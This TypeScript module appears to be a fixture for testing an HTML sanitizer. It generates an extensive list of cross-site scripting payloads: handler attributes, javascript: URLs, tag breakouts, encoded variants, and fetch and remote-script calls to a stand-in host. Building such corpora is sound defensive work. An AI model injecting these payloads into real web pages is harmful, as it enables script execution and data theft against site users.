/** Host that an attack would call; it never resolves. */
export const LISTENER = 'ecoute.invalid';

const ACT = 'alert(1)';
const CALL = `fetch('//${LISTENER}/x')`;

const HANDLERS: readonly (readonly [tag: string, attributes: string, handler: string])[] = [
  ['img', 'src=x', 'onerror'],
  ['image', 'src=x', 'onerror'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['input', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['keygen', 'autofocus', 'onfocus'],
  ['details', 'open', 'ontoggle'],
  ['marquee', 'loop=1', 'onstart'],
  ['marquee', 'loop=1', 'onfinish'],
  ['video', 'autoplay src=x', 'onerror'],
  ['audio', 'autoplay src=x', 'onerror'],
  ['object', 'data=x', 'onerror'],
  ['iframe', 'src=about:blank', 'onload'],
  ['embed', 'src=x', 'onerror'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['style', '', 'onload'],
  ['script', 'src=x', 'onerror'],
  ['div', 'style="animation:a 1s"', 'onanimationstart'],
  ['a', 'href=x style="position:fixed;inset:0"', 'onmouseover'],
  ['button', 'autofocus popovertarget=x', 'onfocus'],
  ['xss', 'id=x tabindex=1 autofocus', 'onfocusin'],
];

const tags = HANDLERS.flatMap(([tag, attributes, handler]) => [
  `<${tag} ${attributes} ${handler}=${ACT}>`,
  `"><${tag} ${attributes} ${handler}="${CALL}">`,
  `'></title><${tag.toUpperCase()}/${attributes}/${handler.toUpperCase()}=${ACT}//`,
]);

const schemes = [
  'javascript',
  'JaVaScRiPt',
  'java\u0009script',
  '&#106;avascript',
  'data:text/html,',
  'vbscript',
  '\u0001javascript',
].flatMap((scheme) => {
  const url = scheme.startsWith('data') ? `${scheme}<script>${ACT}</script>` : `${scheme}:${ACT}`;
  return [url, `<a href="${url}">x</a>`, `<iframe src="${url}">`, `<form action="${url}"><button>x</button></form>`, `[x](${url})`];
});

const scripts = [
  `<script>${ACT}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `</script><script>${ACT}</script>`,
  `</textarea><script>${ACT}</script>`,
  `</title><script>${CALL}</script>`,
  `]]><script>${ACT}</script>`,
  `--><script>${ACT}</script>`,
  `<!--><script>${ACT}</script>-->`,
  `<<script>${ACT}//<</script>`,
  `<scr<script>ipt>${ACT}</scr</script>ipt>`,
  `<script\u000a>${ACT}</script\u000a>`,
  `<script src=//${LISTENER}/x.js></script>`,
  `<script type=module>import '//${LISTENER}/m.js'</script>`,
  `<script>${ACT}`,
  `"-${ACT}-"`,
  `\\";${ACT}//`,
  `'+${ACT}+'`,
  `{"@type":"x"}</script><script>${CALL}</script>`,
];

const markup = [
  `<img src=http://${LISTENER}/p.gif>`,
  `<img srcset="//${LISTENER}/p.gif 1x">`,
  `<link rel=prefetch href=//${LISTENER}/x>`,
  `<meta http-equiv=refresh content="0;url=//${LISTENER}/">`,
  `<base href=//${LISTENER}/>`,
  `<style>@import '//${LISTENER}/x.css';</style>`,
  `<div style="background:url(//${LISTENER}/b.gif)">`,
  `<table background=//${LISTENER}/t.gif>`,
  `<svg><use href="//${LISTENER}/s.svg#x"/></svg>`,
  `<svg><script>${ACT}</script></svg>`,
  `<svg><a xlink:href="javascript:${ACT}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${ACT} attributeName=x dur=1s>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${ACT}></style></mglyph></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${ACT}>">`,
  `<template><script>${ACT}</script></template>`,
  `<object data="data:text/html,<script>${ACT}</script>">`,
  `<iframe srcdoc="<script>${ACT}</script>">`,
];

const disguised = [
  `&lt;script&gt;${ACT}&lt;/script&gt;`,
  `&#60;script&#62;${ACT}&#60;/script&#62;`,
  `&amp;lt;img src=x onerror=${ACT}&amp;gt;`,
  `%3Cscript%3E${ACT}%3C/script%3E`,
  `\\u003cscript\\u003e${ACT}\\u003c/script\\u003e`,
  `\uff1cscript\uff1e${ACT}\uff1c/script\uff1e`,
  `\u02bcscript\u02bc${ACT}`,
  `<\u200bscript>${ACT}</script>`,
  `\u202e>tpircs<${ACT}`,
  `{{constructor.constructor('${ACT}')()}}`,
  `\${${ACT}}`,
  `<%= ${ACT} %>`,
  `" autofocus onfocus=${ACT} x="`,
  `' style='animation-name:x' onanimationstart='${ACT}`,
  '<b>gras</b><i>italique',
];

/** Texts that bring a script, a link or an external image into a page. */
export const XSS_VECTORS: readonly string[] = [...new Set([...tags, ...schemes, ...scripts, ...markup, ...disguised])];
